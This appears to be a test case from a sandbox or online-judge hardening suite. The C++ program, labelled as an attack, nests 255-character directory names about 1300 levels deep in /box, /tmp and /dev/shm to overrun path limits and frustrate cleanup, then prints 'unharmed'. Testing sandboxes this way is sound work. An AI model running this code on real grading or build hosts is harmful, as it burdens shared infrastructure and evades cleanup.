// Attack: folders in folders in folders, with the longest names there are, far deeper than a path can name.
// Verdict: accepted
#include <cstdio>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

int main() {
    std::string name(255, 'n');
    for (const char *top : {"/box", "/tmp", "/dev/shm"}) {
        if (chdir(top) != 0) return 1;
        for (int depth = 0; depth < 1300; depth++) {
            if (mkdir(name.c_str(), 0700) != 0 || chdir(name.c_str()) != 0) break;
        }
    }
    int n;
    if (scanf("%d", &n) == 1) printf("unharmed %d\n", n);
}
